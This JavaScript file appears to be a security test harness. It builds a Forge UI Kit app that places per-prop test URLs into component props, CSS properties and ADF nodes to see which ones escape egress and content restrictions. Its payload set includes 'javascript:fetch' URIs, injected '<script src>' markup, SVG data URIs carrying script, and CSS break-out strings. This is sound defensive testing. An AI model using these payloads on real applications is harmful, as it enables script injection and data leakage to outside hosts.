// The source of a UI Kit app that puts addresses and CSS into every prop that could hold one.
// Each prop has a host name of its own, so that what is caught tells which one let it through.
// Names of HTML elements are not among the components: the reconciler refuses them, and what
// a tree that was made without it would do is in kit.test.js.
const urls = {
  Image: ['src', 'srcSet', 'alt'], Icon: ['glyph', 'src', 'primaryColor'], Avatar: ['src', 'avatarUrl', 'name', 'href'], User: ['accountId', 'avatarUrl', 'src'],
  UserGroup: ['accountIds'], Link: ['href', 'target', 'ping'], LinkButton: ['href', 'iconBefore'], Button: ['iconBefore', 'href', 'formAction'], IconButton: ['icon', 'href'],
  FileCard: ['fileName', 'iconUrl', 'dataUri', 'href', 'src', 'thumbnailUrl', 'previewUrl'], EmptyState: ['imageUrl', 'header'], BreadcrumbsItem: ['href', 'iconBefore'], SectionMessageAction: ['href'],
  Tag: ['href', 'elemBefore'], ThreeLOPrompt: ['authUrl'], Comment: ['avatar', 'author', 'content'], Tile: ['backgroundColor', 'label'], AtlassianTile: ['glyph'],
  Frame: ['resource', 'src', 'width', 'height'], Textfield: ['src', 'formAction', 'list', 'elemBeforeInput', 'width'], TextArea: ['style'], Select: ['options', 'value', 'menuPortalTarget'],
  Text: ['color', 'style', 'dangerouslySetInnerHTML'], Heading: ['color', 'style'], Lozenge: ['style'], Badge: ['appearance'], Spinner: ['size'], CodeBlock: ['language', 'text'], ProgressTracker: ['items'], DynamicTable: ['rows', 'head', 'caption'],
  BarChart: ['colorPalette', 'data', 'title'], PieChart: ['colorPalette'], Popup: ['src'], Modal: ['src'], InlineDialog: ['content'], Calendar: ['style'], DatePicker: ['src'], UserPicker: ['defaultValue'], FilePicker: ['src'], Box: ['src', 'href', 'as', 'style', 'background', 'backgroundImage', 'backgroundColor', 'srcdoc', 'poster'],
  Pressable: ['href', 'src'], Stack: ['style'], Unheard: ['src', 'href', 'srcdoc', 'style'],
};
const css = ['background', 'backgroundImage', 'backgroundColor', 'listStyleImage', 'listStyle', 'cursor', 'content', 'filter', 'backdropFilter', 'mask', 'maskImage', 'borderImage', 'borderImageSource', 'clipPath', 'shapeOutside', 'fontFamily', 'src', 'behavior', 'width',
  'color', 'boxShadow', 'borderColor', 'outline', 'gridTemplateColumns', 'transition', 'animation', 'offsetPath', 'cssText', '--x', '@import', '@font-face', 'font', 'padding', 'display'];
const adf = ['media', 'mediaInline', 'link', 'inlineCard', 'blockCard', 'embedCard', 'emoji', 'textColor', 'panel', 'extension', 'mention'];

/** The ways that are tried, by name. */
export const props = [
  ...Object.entries(urls).flatMap(([type, names]) => names.map((name) => `UI Kit: ${type} ${name}`)),
  ...css.map((name) => `UI Kit: xcss ${name}`), ...adf.map((name) => `UI Kit: AdfRenderer ${name}`),
];

/** What may be fetched where images are granted: pictures, and nothing else. */
export const pictures = new Set(['UI Kit: Image src', 'UI Kit: Avatar src', 'UI Kit: Icon src', 'UI Kit: FileCard iconUrl', 'UI Kit: FileCard dataUri', 'UI Kit: FileCard thumbnailUrl', 'UI Kit: Comment avatar', 'UI Kit: EmptyState imageUrl', 'UI Kit: AdfRenderer media', 'UI Kit: AdfRenderer mediaInline', 'UI Kit: AdfRenderer emoji']);

/** The app's entry. `at` is written like the function that names the host of a way. */
export const source = (hosts) => `
import React from 'react';
import ForgeReconciler, { Text } from '@forge/react';
const urls = ${JSON.stringify(urls)}, css = ${JSON.stringify(css)}, adf = ${JSON.stringify(adf)}, hosts = ${JSON.stringify(hosts)};
const el = React.createElement;
const forms = (to) => [to + '/p.png', to.replace('https:', '') + '/q.png', 'url(' + to + '/u.png)', 'javascript:fetch("' + to + '")', ' ' + to + '/sp.png', to.replace('https:', 'ht\\ntps:'),
  'data:image/svg+xml,' + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg"><image href="' + to + '/s.png"/><script href="' + to + '/s.js"/></svg>'), 'data:text/html,<img src=' + to + '/h.png>', to.replace('https:', 'wss:')];
const markup = (to) => '<img src="' + to + '/m.png"><link rel=preconnect href="' + to + '"><script src="' + to + '/m.js"></script>';
const values = (name, to) => {
  if (name === 'dangerouslySetInnerHTML') return [{ __html: markup(to) }];
  if (name === 'style') return [{ backgroundImage: 'url(' + to + '/st.png)' }, 'background:url(' + to + '/st.png)'];
  if (name === 'options' || name === 'items' || name === 'value') return [forms(to).map((u) => ({ label: markup(to), value: u, href: u, image: u, avatarUrl: u, status: 'visited' }))];
  if (name === 'rows') return [[{ key: 'x', cells: forms(to).map((u, i) => ({ key: String(i), content: el('Image', { src: i % 2 ? 'javascript:' + u : 'x:' + u, alt: '' }) })) }]];
  if (name === 'head') return [{ cells: [{ key: to, content: markup(to) }] }];
  if (name === 'colorPalette') return [forms(to), forms(to).map((u) => ({ key: u, value: 'url(' + u + ')' }))];
  if (name === 'data') return [[[markup(to), 1, to]]];
  if (name === 'accountIds') return [forms(to)];
  if (name === 'as') return ['script', 'iframe', 'link'];
  if (name === 'content') return [markup(to), '0;url=' + to];
  return [...forms(to), markup(to)];
};
const doc = (kind, to) => {
  const text = (marks) => ({ type: 'paragraph', content: [{ type: 'text', text: 'x', marks }] });
  const content = { media: [{ type: 'mediaSingle', content: [{ type: 'media', attrs: { type: 'external', url: to + '/m.png', alt: 'x' } }] }], mediaInline: [{ type: 'paragraph', content: [{ type: 'mediaInline', attrs: { type: 'external', url: to + '/mi.png' } }] }],
    link: [text([{ type: 'link', attrs: { href: to } }])], inlineCard: [{ type: 'paragraph', content: [{ type: 'inlineCard', attrs: { url: to } }] }], blockCard: [{ type: 'blockCard', attrs: { url: to } }], embedCard: [{ type: 'embedCard', attrs: { url: to, layout: 'wide' } }],
    emoji: [{ type: 'paragraph', content: [{ type: 'emoji', attrs: { shortName: ':x:', imageUrl: to + '/e.png', fallback: to } }] }], textColor: [text([{ type: 'textColor', attrs: { color: 'url(' + to + ')' } }])],
    panel: [{ type: 'panel', attrs: { panelType: 'custom', panelIcon: to, panelColor: 'url(' + to + ')' }, content: [] }], extension: [{ type: 'extension', attrs: { extensionType: to, extensionKey: to, parameters: { url: to }, text: markup(to) } }], mention: [{ type: 'paragraph', content: [{ type: 'mention', attrs: { id: to, text: to, avatarUrl: to } }] }] }[kind];
  return { type: 'doc', version: 1, content };
};
const common = { label: 'x', text: 'x', title: 'x', header: 'x', fileName: 'x', name: 'x', alt: 'x', isOpen: true };
const App = () => [
  ...Object.entries(urls).flatMap(([type, names]) => names.flatMap((name) => values(name, hosts['UI Kit: ' + type + ' ' + name]).map((value, i) => el(type, { ...common, key: type + name + i, [name]: value }, name === 'children' ? value : 'x')))),
  ...css.flatMap((name) => forms(hosts['UI Kit: xcss ' + name]).flatMap((u, i) => ['url(' + u + ')', 'image-set("' + u + '" 1x)', 'red;background:url(' + u + ')', 'src("' + u + '")', 'var(--x,url(' + u + '))'].slice(i % 3, i % 3 + 2)
    .map((value, j) => el('Box', { key: name + i + j, xcss: { width: '9px', height: '9px', [name]: value, ':hover': { [name]: value } } }, 'x')))),
  ...adf.map((kind) => el('AdfRenderer', { key: kind, document: doc(kind, hosts['UI Kit: AdfRenderer ' + kind]) })),
  el(Text, { key: 'end' }, 'everything is drawn'),
];
ForgeReconciler.render(el(App));
`;
